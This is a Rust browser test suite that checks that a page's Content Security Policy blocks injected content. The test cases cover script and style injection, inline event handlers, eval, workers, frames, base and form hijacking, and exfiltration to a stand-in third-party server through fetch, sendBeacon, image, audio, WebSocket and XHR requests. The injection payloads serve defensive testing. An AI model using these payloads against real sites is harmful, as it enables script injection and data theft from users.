//! What somebody managed to put into the page, by whichever way: the policy lets none of it run, load or speak.

use e2e::{Error, Outcome, Server, Site, on_page, until};
use serde_json::json;

/// Keeps what the policy stops.
const LISTEN: &str = "window.stopped = []; window.injected = undefined;
    document.addEventListener('securitypolicyviolation', event => window.stopped.push(event.effectiveDirective));";

/// What is tried, and the rule that stops it; `arguments[0]` is the folder of a third host, which allows everything.
const TRIED: [(&str, &str); 21] = [
    // Scripts.
    (
        "script-src-elem",
        "document.head.append(Object.assign(document.createElement('script'), { textContent: 'injected = 1' }))",
    ),
    (
        "script-src-elem",
        "document.head.append(Object.assign(document.createElement('script'), { src: arguments[0] + 'attention-lab.js' }))",
    ),
    (
        "script-src-elem",
        "document.head.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,injected=1' }))",
    ),
    (
        "script-src-elem",
        "document.head.append(Object.assign(document.createElement('script'), { type: 'module', src: URL.createObjectURL(new Blob(['injected = 1'], { type: 'text/javascript' })) }))",
    ),
    (
        "script-src-attr",
        "const own = document.createElement('p'); own.innerHTML = '<img src=\"icon.svg\" onload=\"injected = 1\" onerror=\"injected = 1\">'; document.body.append(own)",
    ),
    (
        "script-src-elem",
        "const own = Object.assign(document.createElement('a'), { href: 'javascript:injected=1' }); document.body.append(own); own.click()",
    ),
    // The page's own: a driver's script may have others.
    (
        "script-src",
        "try { window.Function('injected = 1')() } catch {}",
    ),
    ("script-src", "window.setTimeout('injected = 1')"),
    (
        "script-src-elem",
        "import(arguments[0] + 'attention-lab.js').catch(() => {})",
    ),
    // Workers of another's code.
    (
        "worker-src",
        "try { new Worker(URL.createObjectURL(new Blob(['0']))).onerror = event => event.preventDefault() } catch {}",
    ),
    // Styles.
    (
        "style-src-elem",
        "document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { display: none }' }))",
    ),
    (
        "style-src-elem",
        "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: arguments[0] + 'page.css' }))",
    ),
    // Frames, objects, forms, another base.
    (
        "frame-src",
        "document.body.append(Object.assign(document.createElement('iframe'), { src: arguments[0] }))",
    ),
    (
        "object-src",
        "document.body.append(Object.assign(document.createElement('object'), { data: arguments[0] + 'icon.svg' }))",
    ),
    (
        "base-uri",
        "document.head.append(Object.assign(document.createElement('base'), { href: arguments[0] }))",
    ),
    (
        "form-action",
        "const own = Object.assign(document.createElement('form'), { action: arguments[0], method: 'post' }); document.body.append(own); own.submit()",
    ),
    // What would carry something away.
    (
        "connect-src",
        "fetch(arguments[0] + '?secret').catch(() => {})",
    ),
    (
        "connect-src",
        "navigator.sendBeacon(arguments[0] + '?secret', 'secret')",
    ),
    (
        "img-src",
        "new Image().src = arguments[0] + 'icon.svg?secret'",
    ),
    (
        "img-src",
        "const own = Object.assign(document.createElement('p'), { textContent: 'seen' }); own.style.backgroundImage = `url(${arguments[0]}icon.svg?secret)`; document.body.prepend(own)",
    ),
    (
        "media-src",
        "new Audio(arguments[0] + 'secret.mp3').play().catch(() => {})",
    ),
];

#[test]
fn nothing_that_is_injected_runs_loads_or_speaks() -> Outcome {
    on_page(async |page| {
        page.script(LISTEN, vec![]).await?;
        let stranger = Server::with_headers(Site::built()?, "Access-Control-Allow-Origin: *\r\n")?;
        for (rule, tried) in TRIED {
            page.script("window.stopped.length = 0", vec![]).await?;
            // Later, by itself: what a driver runs may do what the page may not.
            let later = format!(
                "const own = arguments; setTimeout(() => (function () {{ {tried} }})(...own))"
            );
            page.script(&later, vec![json!(stranger.url())]).await?;
            until(&format!("{rule} to stop {tried}"), async || {
                let stopped = "return window.stopped.includes(arguments[0])";
                Ok(page.script(stopped, vec![rule.into()]).await? == true)
            })
            .await?;
        }
        let untouched = "return window.injected === undefined && !customElements.get('attention-lab')
            && getComputedStyle(document.body).display !== 'none' && document.baseURI === location.href";
        assert!(page.holds(untouched).await?, "something of it ran");
        assert_eq!(stranger.requested(), [""; 0], "what was fetched from there");
        assert_eq!(stranger.missing(), [""; 0], "what was asked for there");
        page.click_and_wait("next").await
    })
}

/// Sockets and streams are of the same rule; a browser tells of the first at once, of the others by an error.
#[test]
fn no_socket_and_no_stream_leads_away() -> Outcome {
    on_page(async |page| {
        page.script(LISTEN, vec![]).await?;
        let stranger = Server::start(Site::built()?)?;
        for tried in [
            "try { new WebSocket(arguments[0].replace('http', 'ws')) } catch {}",
            "try { new EventSource(arguments[0]) } catch {}",
            "try { const own = new XMLHttpRequest(); own.open('GET', arguments[0]); own.send() } catch {}",
        ] {
            page.script("window.stopped.length = 0", vec![]).await?;
            page.script(tried, vec![json!(stranger.url())]).await?;
            until(tried, async || {
                page.holds("return window.stopped.includes('connect-src')")
                    .await
            })
            .await?;
        }
        match stranger.requested().concat() + &stranger.missing().concat() {
            nothing if nothing.is_empty() => Ok(()),
            asked => Err(Error::Page(format!("asked for {asked}"))),
        }
    })
}
